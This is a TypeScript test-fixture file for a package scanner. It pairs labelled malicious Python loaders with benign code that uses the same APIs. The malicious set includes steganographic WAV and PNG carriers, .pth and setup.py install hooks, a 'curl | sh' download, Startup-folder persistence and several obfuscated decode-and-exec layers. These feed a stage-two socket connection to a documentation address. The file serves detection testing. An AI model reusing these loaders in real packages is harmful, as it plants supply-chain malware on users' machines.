/**
 * Loader-code fixtures: labelled malicious loaders (each must fire a loader rule and flag) and benign code that uses
 * the same APIs honestly (each must stay below the threshold). Shared by the unit tests and scripts/loader-eval.ts.
 * Everything is generated here; the payloads are harmless (`id`, a fake PE) and the addresses are documentation ones.
 */
import { PNG } from 'pngjs';
import { loaderAnalyzer } from '../../src/analyzers/loader.js';
import { analyzeFile, finalizeArtifact, newArtifactState, toScanFile } from '../../src/analyzers/run.js';
import type { Analyzer } from '../../src/analyzers/types.js';
import { allRules } from '../../src/analyzers/index.js';
import { defaultOptions } from '../../src/options.js';
import { scoreArtifact } from '../../src/scoring/index.js';
import type { Finding } from '../../src/types.js';
import { tone, wav } from './pcm.js';
import { b64, bytes, fakePE, hex, telnyx, utf8, zlibbed } from './payloads.js';

export type Bytes = Uint8Array | string;

export interface LoaderRun {
  findings: Finding[];
  incomplete: string[];
  /** Artifact score of these findings alone. */
  score: number;
}

/** Run analyzers (the loader alone by default) over the files of one artifact, finalize included. */
export async function runLoader(files: Record<string, Bytes>, analyzers: readonly Analyzer[] = [loaderAnalyzer]): Promise<LoaderRun> {
  const state = newArtifactState();
  const opts = defaultOptions();
  const paths = Object.keys(files);
  const findings: Finding[] = [];
  const incomplete: string[] = [];
  for (const [p, d] of Object.entries(files)) {
    const r = await analyzeFile(await toScanFile(p, typeof d === 'string' ? utf8(d) : d), analyzers, opts, paths, state);
    findings.push(...r.findings);
    incomplete.push(...r.incomplete);
  }
  const fin = await finalizeArtifact(analyzers, opts, paths, findings, state);
  findings.push(...fin.findings);
  incomplete.push(...fin.incomplete);
  return { findings, incomplete, score: scoreArtifact(findings, allRules()).score };
}

export const rulesOf = (r: LoaderRun): string[] => [...new Set(r.findings.map((f) => f.rule))].sort();
export const maxScore = (r: LoaderRun, rule?: string): number => Math.max(0, ...r.findings.filter((f) => !rule || f.rule === rule).map((f) => f.score));

// ---------------------------------------------------------------------------------------------------------------
// media carriers

/** Python code hidden in the least significant bits of 16-bit PCM samples (MSB first per byte, as the loader reads). */
export function lsbWav(payload: Uint8Array, seconds = 1): Uint8Array {
  const pcm = tone(seconds);
  const bits = payload.length * 8;
  if (bits > pcm.length) throw new Error('carrier too small');
  for (let i = 0; i < bits; i++) {
    const bit = (payload[i >> 3] >> (7 - (i & 7))) & 1;
    pcm[i] = (pcm[i] & 0xfe) | bit;
  }
  return wav(pcm);
}

/** An RGB PNG whose red channel's least significant bits carry `payload` (MSB first per byte). */
export function lsbPng(payload: Uint8Array, width = 64, height = 64): Uint8Array {
  const png = new PNG({ width, height });
  for (let i = 0; i < width * height; i++) {
    png.data[i * 4] = (i * 7) & 0xff;
    png.data[i * 4 + 1] = (i * 13) & 0xff;
    png.data[i * 4 + 2] = (i * 29) & 0xff;
    png.data[i * 4 + 3] = 255;
  }
  for (let i = 0; i < payload.length * 8 && i < width * height; i++) {
    const bit = (payload[i >> 3] >> (7 - (i & 7))) & 1;
    png.data[i * 4] = (png.data[i * 4] & 0xfe) | bit;
  }
  return new Uint8Array(PNG.sync.write(png));
}

/** The telnyx carrier: WAV frames that are base64 text of an 8-byte key and the XOR-ed payload. */
export function telnyxWav(payload: Uint8Array): Uint8Array {
  return wav(bytes(b64(telnyx(payload))));
}

const STAGE2 = "import os, socket\ns = socket.create_connection(('198.51.100.23', 4444))\nos.dup2(s.fileno(), 0)\nos.system('id')\n";

// ---------------------------------------------------------------------------------------------------------------
// loaders that must be found

export interface Fixture {
  name: string;
  files: Record<string, Bytes>;
  /** Rules at least one of which must fire (loader rules). */
  rules?: string[];
  /** Where the asset correlation must be reported, when the fixture has one. */
  asset?: string;
}

const TELNYX_LOADER = String.raw`import base64
import os
import subprocess
import sys
import tempfile
import urllib.request
import wave

_AUDIO = "http://203.0.113.7/hangup.wav"


def _sync():
    req = urllib.request.Request(_AUDIO, headers={"User-Agent": "Mozilla/5.0"})
    with urllib.request.urlopen(req, timeout=15) as r:
        data = r.read()
    tmp = os.path.join(tempfile.gettempdir(), "hangup.wav")
    with open(tmp, "wb") as f:
        f.write(data)
    with wave.open(tmp, "rb") as w:
        frames = w.readframes(w.getnframes())
    raw = base64.b64decode(frames)
    key, body = raw[:8], raw[8:]
    payload = bytes(b ^ key[i % len(key)] for i, b in enumerate(body))
    if os.name == "nt":
        exe = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Start Menu", "Programs", "Startup", "msbuild.exe")
        with open(exe, "wb") as f:
            f.write(payload)
        subprocess.Popen([exe], creationflags=0x08000000)
    else:
        subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE, start_new_session=True).communicate(payload)


try:
    _sync()
except Exception:
    pass
`;

export const MALICIOUS: Fixture[] = [
  {
    name: 'telnyx-style download of a WAV, frames base64 + XOR, run at import',
    files: { 'telnyx/__init__.py': 'from ._client import Client\n', 'telnyx/_client.py': TELNYX_LOADER + '\nclass Client:\n    pass\n' },
    rules: ['code.download-exec'],
  },
  {
    name: 'the same loader in setup.py of an sdist',
    files: { 'evilpkg-1.0/setup.py': TELNYX_LOADER + '\nfrom setuptools import setup\nsetup(name="evilpkg", version="1.0")\n', 'evilpkg-1.0/PKG-INFO': 'Name: evilpkg\n' },
    rules: ['code.download-exec'],
  },
  {
    name: 'a .pth file importing a module whose import runs a decoded literal',
    files: {
      'zz_evil.pth': 'import evilhook\n',
      'evilhook.py': `import base64, zlib\n_c = "${b64(zlibbed(utf8(STAGE2)))}"\nexec(zlib.decompress(base64.b64decode(_c)))\n`,
    },
    rules: ['code.decode-exec'],
  },
  {
    name: 'litellm-style .pth: python -c with base64 exec in a detached process',
    files: {
      'litellm_init.pth': `import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode('${b64(utf8(STAGE2))}'))"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)\n`,
    },
    rules: ['code.decode-exec'],
  },
  {
    name: 'local LSB loader reading a bundled WAV at import',
    files: {
      'chimes/__init__.py': String.raw`import os
import wave

_here = os.path.dirname(os.path.abspath(__file__))


def _load(name):
    w = wave.open(os.path.join(_here, "assets", name), "rb")
    frames = w.readframes(w.getnframes())
    bits = [b & 1 for b in frames]
    out = bytearray()
    for i in range(0, len(bits) - 7, 8):
        out.append(int("".join(str(x) for x in bits[i:i + 8]), 2))
    return bytes(out).split(b"\x00")[0].decode()


exec(_load("chime.wav"))
`,
      'chimes/assets/chime.wav': lsbWav(utf8(STAGE2 + '\0')),
    },
    rules: ['code.media-exec'],
    asset: 'chimes/assets/chime.wav',
  },
  {
    name: 'apicolor/judyb-style image loader: PIL pixels, LSB bits, exec',
    files: {
      'colorapi/__init__.py': String.raw`from PIL import Image
import os


def reveal(path):
    img = Image.open(path)
    pixels = list(img.getdata())
    bits = "".join(str(p[0] & 1) for p in pixels)
    chars = [chr(int(bits[i:i + 8], 2)) for i in range(0, len(bits), 8)]
    return "".join(chars).split("\x00")[0]


code = reveal(os.path.join(os.path.dirname(__file__), "logo.png"))
exec(code)
`,
      'colorapi/logo.png': lsbPng(utf8(STAGE2 + '\0')),
    },
    rules: ['code.media-exec'],
    asset: 'colorapi/logo.png',
  },
  {
    name: 'image fetched from an image host and revealed with a steganography library',
    files: {
      'apicolors/__init__.py': String.raw`import requests
from judyb import lsb

r = requests.get("https://i.imgur.example/aBcD123.png")
with open("tmp.png", "wb") as f:
    f.write(r.content)
exec(lsb.reveal("tmp.png"))
`,
    },
    rules: ['code.download-exec', 'code.media-exec'],
  },
  {
    name: 'obfuscated exec: getattr(__builtins__, "ex"+"ec") of rot13 text',
    files: {
      'obf1/__init__.py': `import codecs\n_x = getattr(__builtins__, 'ex' + 'ec')\n_x(codecs.decode(${JSON.stringify(STAGE2.replace(/[a-z]/gi, (c) => String.fromCharCode(((c.toLowerCase().charCodeAt(0) - 97 + 13) % 26) + (c === c.toLowerCase() ? 97 : 65))))}, 'rot13'))\n`,
    },
    rules: ['code.obfuscated-call', 'code.decode-exec'],
  },
  {
    name: 'lambda decoder helper and globals() lookup',
    files: {
      'obf2/util.py': `import base64\n_d = lambda s: base64.b64decode(s).decode()\nrun = globals()['__builtins__']\ng = globals()\ng[''.join(['e', 'x', 'e', 'c'])](_d('${b64(utf8(STAGE2))}'))\n`,
    },
    rules: ['code.decode-exec', 'code.obfuscated-call'],
  },
  {
    name: 'nested exec(base64) layers',
    files: {
      'obf3/__init__.py': (() => {
        let code = STAGE2;
        for (let i = 0; i < 5; i++) code = `import base64;exec(base64.b64decode('${b64(utf8(code))}'))`;
        return code + '\n';
      })(),
    },
    rules: ['code.decode-exec'],
  },
  {
    name: 'marshal.loads of zlib+base64 bytes, executed',
    files: { 'obf4/__init__.py': `import marshal, zlib, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode(b'${b64(zlibbed(utf8('\xe3' + 'x'.repeat(64))))}'))))\n` },
    rules: ['code.decode-exec'],
  },
  {
    name: 'hex literal of a PE written to a file and run, hidden',
    files: {
      'obf5/__init__.py': `import os, subprocess, tempfile\n_b = bytes.fromhex('${hex(fakePE(2048))}')\n_p = os.path.join(tempfile.gettempdir(), 'svc.exe')\nopen(_p, 'wb').write(_b)\nsubprocess.Popen(_p, creationflags=subprocess.CREATE_NO_WINDOW)\n`,
    },
    rules: ['code.decode-exec'],
  },
  {
    name: '__import__ of a computed module name and reversed strings',
    files: { 'obf6/__init__.py': `m = __import__('so'[::-1])\ngetattr(m, 'metsys'[::-1])('id')\n` },
    rules: ['code.obfuscated-call'],
  },
  {
    name: 'chr() chain into exec',
    files: { 'obf7/__init__.py': `exec(''.join(chr(c) for c in [${[...utf8("__import__('os').system('id')")].join(', ')}]))\n` },
    rules: ['code.decode-exec'],
  },
  {
    name: 'XOR-decoded literal with a literal key, exec',
    files: {
      'obf8/__init__.py': (() => {
        const key = utf8('k3y!');
        const enc = [...utf8(STAGE2)].map((b, i) => b ^ key[i % 4]);
        return `from itertools import cycle\n_k = b'k3y!'\n_e = bytes([${enc.join(',')}])\nexec(bytes(a ^ b for a, b in zip(_e, cycle(_k))).decode())\n`;
      })(),
    },
    rules: ['code.decode-exec'],
  },
  {
    name: 'setup.py that downloads and runs a shell script at install',
    files: {
      'inst-2.0/setup.py': `import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass Post(install):\n    def run(self):\n        install.run(self)\n        os.system('curl -fsSL http://198.51.100.9/x.sh | sh')\n\nsetup(name='inst', version='2.0', cmdclass={'install': Post})\n`,
    },
    rules: ['code.download-exec', 'code.install-network'],
  },
  {
    name: 'telnyx-style WAV bundled in the package, frames decoded, written and run',
    files: {
      'ringer/__init__.py': String.raw`import base64, os, subprocess, tempfile, wave
from pathlib import Path

_w = wave.open(str(Path(__file__).parent / "ring.wav"), "rb")
_raw = base64.b64decode(_w.readframes(_w.getnframes()))
_k = _raw[:8]
_exe = bytes(c ^ _k[i % 8] for i, c in enumerate(_raw[8:]))
_p = os.path.join(tempfile.gettempdir(), "ring.exe")
with open(_p, "wb") as fh:
    fh.write(_exe)
subprocess.Popen([_p])
`,
      'ringer/ring.wav': telnyxWav(fakePE(3000)),
    },
    rules: ['code.media-exec'],
    asset: 'ringer/ring.wav',
  },
  {
    name: 'class-based updater: fetch in one method, decompress and exec in another (never called at import)',
    files: {
      'updater/core.py': String.raw`import urllib.request
import zlib


class Updater:
    def __init__(self, url="http://198.51.100.12/u.bin"):
        self.url = url
        self.blob = b""

    def fetch(self):
        self.blob = urllib.request.urlopen(self.url).read()

    def apply(self):
        exec(compile(zlib.decompress(self.blob), "<update>", "exec"))
`,
    },
    rules: ['code.download-exec'],
  },
  {
    name: 'decoder reached through getattr(__import__("base64"), ...) and eval(compile(...))',
    files: {
      'gi/__init__.py': `_m = __import__('base64')
_f = getattr(_m, 'b64decode')
eval(compile(_f('${b64(utf8(STAGE2))}'), '<s>', 'exec'))
`,
    },
    rules: ['code.decode-exec'],
  },
];

// ---------------------------------------------------------------------------------------------------------------
// benign code that uses the same APIs

export const BENIGN: Fixture[] = [
  {
    name: 'plays its own WAV with wave and pyaudio',
    files: {
      'beeper/__init__.py': String.raw`import os
import wave

import pyaudio

HERE = os.path.dirname(__file__)


def play(name="beep.wav", chunk=1024):
    wf = wave.open(os.path.join(HERE, "sounds", name), "rb")
    p = pyaudio.PyAudio()
    stream = p.open(format=p.get_format_from_width(wf.getsampwidth()), channels=wf.getnchannels(), rate=wf.getframerate(), output=True)
    data = wf.readframes(chunk)
    while data:
        stream.write(data)
        data = wf.readframes(chunk)
    stream.close()
    p.terminate()
`,
      'beeper/sounds/beep.wav': wav(tone(0.2)),
    },
  },
  {
    name: 'loads images with PIL for textures and thumbnails',
    files: {
      'viewer/images.py': String.raw`from PIL import Image
import numpy as np


def texture(path):
    img = Image.open(path).convert("RGBA")
    data = img.tobytes("raw", "RGBA", 0, -1)
    return img.size, data


def thumbnail(path, out):
    with Image.open(path) as im:
        im.thumbnail((128, 128))
        im.save(out)
    arr = np.asarray(Image.open(out))
    return arr.mean(axis=(0, 1))
`,
    },
  },
  {
    name: 'embeds base64 icons',
    files: {
      'guitool/icons.py': `import base64\nimport tkinter as tk\n\nICON = base64.b64decode(b"iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAYAAAAf8/9hAAAAAXNSR0IArs4c6QAAAARnQU1BAACxjwv8YQUAAAAJcEhZcwAADsMAAA7DAcdvqGQAAAAaSURBVDhPY/hPIWAYNWDUgFEDRg0YNQAEAH7EA/1TCF7ZAAAAAElFTkSuQmCC")\n\n\ndef photo(root):\n    return tk.PhotoImage(master=root, data=base64.b64encode(ICON))\n`,
    },
  },
  {
    name: 'shells out to ffmpeg and sox',
    files: {
      'audiotools/convert.py': String.raw`import shutil
import subprocess


def to_mp3(src, dst, bitrate="192k"):
    ffmpeg = shutil.which("ffmpeg") or "ffmpeg"
    subprocess.run([ffmpeg, "-y", "-i", src, "-b:a", bitrate, dst], check=True, capture_output=True)


def trim(src, dst, start, end):
    cmd = "sox %s %s trim %s %s" % (src, dst, start, end)
    return subprocess.call(cmd, shell=True)
`,
    },
  },
  {
    name: 'fetches a data set and extracts it',
    files: {
      'datasets/fetch.py': String.raw`import hashlib
import os
import tarfile
import urllib.request

import requests

URL = "https://data.example.org/speech/commands_v0.02.tar.gz"


def download(url=URL, root="~/.cache/datasets"):
    root = os.path.expanduser(root)
    os.makedirs(root, exist_ok=True)
    path = os.path.join(root, os.path.basename(url))
    if not os.path.exists(path):
        urllib.request.urlretrieve(url, path)
    with tarfile.open(path) as tf:
        tf.extractall(root)
    return root


def fetch_json(url):
    r = requests.get(url, timeout=30)
    r.raise_for_status()
    return r.json()


def fetch_weights(url, dst):
    with requests.get(url, stream=True) as r:
        with open(dst, "wb") as f:
            for chunk in r.iter_content(1 << 20):
                f.write(chunk)
    return hashlib.sha256(open(dst, "rb").read()).hexdigest()
`,
    },
  },
  {
    name: 'plugins through importlib and entry points',
    files: {
      'plugs/registry.py': String.raw`import importlib
import pkgutil
from importlib.metadata import entry_points

import plugs.backends


def load_backends():
    out = {}
    for m in pkgutil.iter_modules(plugs.backends.__path__):
        out[m.name] = importlib.import_module(f"plugs.backends.{m.name}")
    for ep in entry_points(group="plugs.backends"):
        out[ep.name] = ep.load()
    return out


def load(name):
    mod = importlib.import_module("." + name, package="plugs.backends")
    return getattr(mod, "Backend")
`,
    },
  },
  {
    name: 'setup.py reading its version with exec, and a build step with subprocess',
    files: {
      'mypkg-1.0/setup.py': String.raw`import os
import subprocess
from setuptools import setup

here = os.path.abspath(os.path.dirname(__file__))
about = {}
with open(os.path.join(here, "mypkg", "__version__.py")) as f:
    exec(f.read(), about)
exec(compile(open(os.path.join(here, "mypkg", "_meta.py")).read(), "_meta.py", "exec"), about)

try:
    rev = subprocess.check_output(["git", "rev-parse", "HEAD"], cwd=here).decode().strip()
except Exception:
    rev = "unknown"

setup(name="mypkg", version=about["__version__"])
`,
    },
  },
  {
    name: 'six-style exec_ and a Python 2 exec statement',
    files: {
      'compat/six_like.py': String.raw`import sys

PY3 = sys.version_info[0] == 3
if PY3:
    import builtins
    exec_ = getattr(builtins, "exec")
else:
    def exec_(_code_, _globs_=None, _locs_=None):
        if _globs_ is None:
            frame = sys._getframe(1)
            _globs_ = frame.f_globals
        exec("""exec _code_ in _globs_, _locs_""")

exec_("""def reraise(tp, value, tb=None):
    raise tp, value, tb
""")
`,
    },
  },
  {
    name: 'driver manager: downloads a tool in a function, extracts and chmods it',
    files: {
      'drivermgr/install.py': String.raw`import os
import stat
import zipfile

import requests


def install(version, dest):
    url = f"https://drivers.example.org/{version}/driver_linux64.zip"
    r = requests.get(url)
    zpath = os.path.join(dest, "driver.zip")
    with open(zpath, "wb") as f:
        f.write(r.content)
    with zipfile.ZipFile(zpath) as z:
        z.extractall(dest)
    exe = os.path.join(dest, "driver")
    os.chmod(exe, os.stat(exe).st_mode | stat.S_IEXEC)
    return exe
`,
    },
  },
  {
    name: 'a .pyc loader (marshal from a file) and a template engine compiling its templates',
    files: {
      'loaders/pyc.py': String.raw`import marshal
import importlib.util


def load_pyc(path, name):
    with open(path, "rb") as f:
        data = f.read()
    code = marshal.loads(data[16:])
    mod = importlib.util.module_from_spec(importlib.util.spec_from_loader(name, loader=None))
    exec(code, mod.__dict__)
    return mod


class Template:
    def __init__(self, source):
        self.code = compile(self.translate(source), "<template>", "exec")

    def translate(self, source):
        return source.replace("{{", "__w(").replace("}}", ")")

    def render(self, **ns):
        out = []
        ns["__w"] = out.append
        exec(self.code, ns)
        return "".join(map(str, out))
`,
    },
  },
  {
    name: 'loads a bundled shared library and checks the interpreter with python -c',
    files: {
      'fastlib/__init__.py': String.raw`import ctypes
import os
import subprocess
import sys

_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), "libfast.so"))
_ver = subprocess.check_output([sys.executable, "-c", "import sys; print(sys.version_info[:2])"]).decode()
`,
    },
  },
  {
    name: 'rot13 text and base64 config, never executed',
    files: {
      'zen/__init__.py': String.raw`import base64
import codecs
import json

s = codecs.decode("Ornhgvshy vf orggre guna htyl.", "rot13")
cfg = json.loads(base64.b64decode("eyJkZWJ1ZyI6IGZhbHNlLCAibGV2ZWwiOiAzfQ==").decode())
`,
    },
  },
  {
    name: 'a CLI that calls an API, parses JSON and runs git',
    files: {
      'relcli/__main__.py': String.raw`import json
import subprocess
import sys
import urllib.request


def latest(repo):
    with urllib.request.urlopen(f"https://api.example.org/repos/{repo}/releases/latest") as r:
        return json.loads(r.read().decode())["tag_name"]


def main():
    tag = latest(sys.argv[1])
    subprocess.run(["git", "fetch", "origin", f"refs/tags/{tag}"], check=True)
    subprocess.run(["git", "checkout", tag], check=True)


if __name__ == "__main__":
    main()
`,
    },
  },
  {
    name: 'a notebook kernel executing user code from a socket',
    files: {
      'minikernel/kernel.py': String.raw`import socket


def serve(port):
    srv = socket.socket()
    srv.bind(("127.0.0.1", port))
    srv.listen(1)
    conn, _ = srv.accept()
    ns = {}
    while True:
        code = conn.recv(65536).decode()
        if not code:
            break
        exec(compile(code, "<cell>", "exec"), ns)
`,
    },
  },
];
